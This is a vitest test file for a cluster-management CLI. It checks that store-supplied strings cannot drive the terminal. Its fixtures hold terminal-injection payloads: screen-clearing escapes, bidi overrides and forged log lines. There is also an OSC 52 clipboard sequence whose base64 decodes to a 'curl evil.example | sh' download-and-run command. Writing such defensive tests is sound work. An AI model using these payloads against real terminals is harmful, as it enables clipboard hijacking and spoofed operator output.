import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { Config, Errors } from '@oclif/core';
import { MemoryLogger, SystemClock, TandemError, type CoordinationStore, type StoredEvent } from '@tandem/core';
import { createEmbeddedStore } from '@tandem/store-embedded';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { BaseCommand } from './base-command.js';
import Events from './commands/events.js';
import Status from './commands/status.js';
import { renderTimeline } from './demo/demo-timeline.js';
import { renderVolumeStatus } from './volume-context.js';

// `events --follow` polls forever; here the first pause ends the command the way Ctrl-C would.
vi.mock('./poll.js', async (importOriginal) => ({
  ...(await importOriginal<typeof import('./poll.js')>()),
  pause: async (): Promise<void> => Errors.exit(0),
}));

/**
 * Whoever can write to the coordination store controls these strings: they try
 * to clear the screen, set the clipboard (OSC 52), overwrite a line with a
 * carriage return or backspaces, use the 8-bit CSI, reverse text with bidi
 * overrides, and forge an extra event line with a newline.
 */
const CSI = '\x1b[2J\x1b[H\x1b[32m';
const OSC52 = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07';
const hostile = {
  node: `n3${OSC52}`,
  holder: 'n1\u202e2n',
  fact: `lag 0\rlag 999999${CSI}`,
  factKey: 'note\u2066x\u2069',
  eventNode: 'n2\b\b\b\bn1',
  eventType: 'ha.detect\u009b2J',
  message: `primary healthy\r${CSI}all good\u202e${OSC52}\n2099-01-01T00:00:00.000Z  n1       ha.promote             forged`,
  requestId: `req${OSC52}`,
  requestTarget: 'n2\u202d\u2028',
};

/** Raw characters a terminal would act on; a newline is allowed only between lines. */
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

const cliRoot = join(dirname(fileURLToPath(import.meta.url)), '..');
const dir = mkdtempSync(join(tmpdir(), 'tandem-terminal-output-'));
const configFile = join(dir, 'cluster.yaml');
const storeFile = join(dir, 'store.sqlite');
let config: Config;

function openTestStore(): CoordinationStore {
  return createEmbeddedStore({ type: 'embedded', path: storeFile }, { clock: new SystemClock(), logger: new MemoryLogger(), stateDir: dir });
}

beforeAll(async () => {
  writeFileSync(configFile, `cluster: safe-output
store: { type: embedded, path: ${storeFile} }
nodes:
  n1: { nics: { public: 127.0.0.31/8 } }
  n2: { nics: { public: 127.0.0.32/8 } }
`);
  const store = openTestStore();
  try {
    await store.acquireLease(hostile.holder, 600_000);
    await store.heartbeat({ node: hostile.node, role: 'replica', epoch: 1, facts: { lag: hostile.fact, [hostile.factKey]: true }, updatedAtWallMs: Date.now() }, 600_000);
    await store.updateSettings({ request: { id: hostile.requestId, kind: 'switchover', target: hostile.requestTarget, requestedAtWallMs: Date.now() } });
    await store.appendEvent({ atWallMs: Date.UTC(2030, 0, 1), node: hostile.eventNode, type: hostile.eventType, message: hostile.message });
  } finally {
    await store.close();
  }
  config = await Config.load({ root: cliRoot });
});

afterAll(() => rmSync(dir, { recursive: true, force: true }));

afterEach(() => {
  vi.restoreAllMocks();
  process.exitCode = undefined;
});

function capture(): { out: () => string; err: () => string } {
  let out = '';
  let err = '';
  vi.spyOn(process.stdout, 'write').mockImplementation((chunk: string | Uint8Array) => ((out += String(chunk)), true));
  vi.spyOn(process.stderr, 'write').mockImplementation((chunk: string | Uint8Array) => ((err += String(chunk)), true));
  // oclif's ux.stdout (this.log, --json) and ux.stderr (this.logToStderr) write through console.
  vi.spyOn(console, 'log').mockImplementation((...parts: unknown[]) => void (out += `${parts.map(String).join(' ')}\n`));
  vi.spyOn(console, 'error').mockImplementation((...parts: unknown[]) => void (err += `${parts.map(String).join(' ')}\n`));
  return { out: () => out, err: () => err };
}

const args = ['-c', configFile, '--state-dir', dir];

/** The escapes an operator must see instead of what they stand for. */
function expectVisibleEscapes(text: string): void {
  expect(text).toContain('\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07');
  expect(text).toContain('\\x1b[2J\\x1b[H\\x1b[32m');
  expect(text).toContain('\\u202e');
  expect(text).toContain('\\r');
}

describe('tandem status (human output) shows what the store holds without letting it drive the terminal', () => {
  it('member, fact, lease holder, request and event fields are escaped, one line each', async () => {
    const io = capture();
    await Status.run(args, config);
    vi.restoreAllMocks();
    const out = io.out();
    expect(out).not.toMatch(RAW_CONTROL);
    expectVisibleEscapes(out);
    expect(out).toContain('cluster safe-output: primary n1\\u202e2n, lease epoch 1');
    expect(out).toMatch(/^n3\\x1b\]52;c;\S+\\x07replica {4}1 /m);
    expect(out).toContain('lag=lag 0\\rlag 999999\\x1b[2J\\x1b[H\\x1b[32m');
    expect(out).toContain('note\\u2066x\\u2069=true');
    expect(out).toContain('pending request: switchover to n2\\u202d\\u2028 (req\\x1b]52;c;');
    expect(out).toContain('n2\\x08\\x08\\x08\\x08n1');
    expect(out).toContain('ha.detect\\x9b2J');
    // The newline in the message stays inside its event's line: no forged event follows.
    const events = out.slice(out.indexOf('recent events:')).split('\n').filter((l) => /^\d{4}-/.test(l));
    expect(events).toHaveLength(1);
    expect(events[0]).toContain('all good\\u202e\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\n2099-01-01T00:00:00.000Z  n1       ha.promote             forged');
  });

  it('--json keeps every string exact, with C1 and bidi controls as \\u escapes', async () => {
    const io = capture();
    await Status.run([...args, '--json'], config);
    vi.restoreAllMocks();
    const out = io.out();
    expect(out).not.toMatch(RAW_CONTROL);
    expect(out).toContain('\\u202e');
    const view = JSON.parse(out) as { lease: { holder: string }; members: { node: string; facts: Record<string, unknown> }[]; settings: { request: { id: string; target: string } }; recentEvents: StoredEvent[] };
    expect(view.lease.holder).toBe(hostile.holder);
    expect(view.members.map((m) => m.node)).toEqual([hostile.node]);
    expect(view.members[0]?.facts).toEqual({ lag: hostile.fact, [hostile.factKey]: true });
    expect(view.settings.request).toMatchObject({ id: hostile.requestId, target: hostile.requestTarget });
    expect(view.recentEvents.map((e) => [e.node, e.type, e.message])).toEqual([[hostile.eventNode, hostile.eventType, hostile.message]]);
  });
});

describe('tandem events shows event fields escaped', () => {
  it('one line per event, node, type and message escaped', async () => {
    const io = capture();
    await Events.run(args, config);
    vi.restoreAllMocks();
    const out = io.out();
    expect(out).not.toMatch(RAW_CONTROL);
    expectVisibleEscapes(out);
    expect(out.trimEnd().split('\n')).toEqual([
      '2030-01-01T00:00:00.000Z  n2\\x08\\x08\\x08\\x08n1 ha.detect\\x9b2J        primary healthy\\r\\x1b[2J\\x1b[H\\x1b[32mall good\\u202e\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\n2099-01-01T00:00:00.000Z  n1       ha.promote             forged',
    ]);
  });

  it('--json keeps the messages exact', async () => {
    const io = capture();
    await Events.run([...args, '--json'], config);
    vi.restoreAllMocks();
    expect(io.out()).not.toMatch(RAW_CONTROL);
    const { events } = JSON.parse(io.out()) as { events: StoredEvent[] };
    expect(events.map((e) => [e.node, e.type, e.message])).toEqual([[hostile.eventNode, hostile.eventType, hostile.message]]);
  });

  it('--follow --json streams JSON lines without raw C1 or bidi controls, values exact', async () => {
    const io = capture();
    const error = await Events.run([...args, '--follow', '--json'], config).catch((e: unknown) => e);
    vi.restoreAllMocks();
    expect(error).toBeInstanceOf(Errors.ExitError);
    const out = io.out();
    expect(out).not.toMatch(RAW_CONTROL);
    const lines = out.trimEnd().split('\n');
    expect(lines).toHaveLength(1);
    const e = JSON.parse(lines[0]!) as StoredEvent;
    expect([e.node, e.type, e.message]).toEqual([hostile.eventNode, hostile.eventType, hostile.message]);
  });

  it('--follow (human) prints the same escaped line', async () => {
    const io = capture();
    await Events.run([...args, '--follow'], config).catch((e: unknown) => e);
    vi.restoreAllMocks();
    expect(io.out()).not.toMatch(RAW_CONTROL);
    expect(io.out().trimEnd().split('\n')).toHaveLength(1);
    expectVisibleEscapes(io.out());
  });
});

class Echo extends BaseCommand<typeof Echo> {
  async run(): Promise<{ text: string }> {
    this.log(`log: ${hostile.message}`);
    this.log('log with %s: %d', hostile.holder, 7);
    this.logToStderr(`stderr: ${OSC52}`);
    return { text: hostile.message + hostile.holder };
  }
}

class Fail extends BaseCommand<typeof Fail> {
  async run(): Promise<never> {
    throw new TandemError('failed', `could not rejoin n1: ${hostile.message}`, { problems: [{ path: 'NODE', message: `${hostile.holder} holds epoch 3`, fix: `see ${OSC52}` }] });
  }
}

describe('every command\'s log, logToStderr, logJson and error output', () => {
  it('log keeps newlines but escapes every other control; logToStderr too', async () => {
    const io = capture();
    await Echo.run([], config);
    vi.restoreAllMocks();
    expect(io.out()).not.toMatch(RAW_CONTROL);
    expect(io.err()).not.toMatch(RAW_CONTROL);
    expect(io.out()).toContain('log: primary healthy\\r\\x1b[2J\\x1b[H\\x1b[32mall good\\u202e\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\n2099-01-01');
    expect(io.out()).toContain('log with n1\\u202e2n: 7\n');
    expect(io.err()).toBe('stderr: \\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\n');
  });

  it('the --json document has no raw C1 or bidi control and parses to the same value', async () => {
    const io = capture();
    await Echo.run(['--json'], config);
    vi.restoreAllMocks();
    expect(io.out()).not.toMatch(RAW_CONTROL);
    expect(JSON.parse(io.out())).toEqual({ text: hostile.message + hostile.holder });
  });

  it('an error quoting the store is escaped on stderr: message and each problem line', async () => {
    const io = capture();
    const error = await Fail.run([], config).catch((e: unknown) => e);
    vi.restoreAllMocks();
    expect(error).toBeInstanceOf(Errors.ExitError);
    expect(io.err()).not.toMatch(RAW_CONTROL);
    const lines = io.err().trimEnd().split('\n');
    expect(lines[0]).toBe('Error: could not rejoin n1: primary healthy\\r\\x1b[2J\\x1b[H\\x1b[32mall good\\u202e\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07');
    expect(lines.at(-1)).toBe('  - NODE: n1\\u202e2n holds epoch 3 (fix: see \\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07)');
  });

  it('the same error with --json keeps the text exact', async () => {
    const io = capture();
    await Fail.run(['--json'], config).catch((e: unknown) => e);
    vi.restoreAllMocks();
    expect(io.out()).not.toMatch(RAW_CONTROL);
    expect((JSON.parse(io.out()) as { error: { problems: { message: string }[] } }).error.problems[0]?.message).toBe(`${hostile.holder} holds epoch 3`);
  });
});

describe('other renderers of store and plugin text', () => {
  it('the demo timeline: event node and message one line each', () => {
    const text = renderTimeline([{ step: 'promote', atWallMs: 1500, node: hostile.eventNode, detail: hostile.message }], 1000);
    expect(text).not.toMatch(RAW_CONTROL);
    expect(text.split('\n')).toHaveLength(2);
    expect(text).toContain('n2\\x08\\x08\\x08\\x08n1primary healthy\\r\\x1b[2J');
  });

  it('volume status: what mdadm reports through the plugin, one line per member', () => {
    const text = renderVolumeStatus({ device: `/dev/md/x${CSI}`, state: 'clean', degraded: `no\rdegraded: ${OSC52}`, members: [{ array: 'array1\u202e', device: '/dev/sdb\n  array9  /dev/sdz    in-sync', state: 'in-sync' }] } as Parameters<typeof renderVolumeStatus>[0]);
    expect(text).not.toMatch(RAW_CONTROL);
    expect(text.split('\n')).toHaveLength(2);
    expect(text).toContain('/dev/md/x\\x1b[2J\\x1b[H\\x1b[32m: clean - no\\rdegraded: \\x1b]52;c;');
    expect(text).toContain('array1\\u202e  /dev/sdb\\n  array9');
  });
});
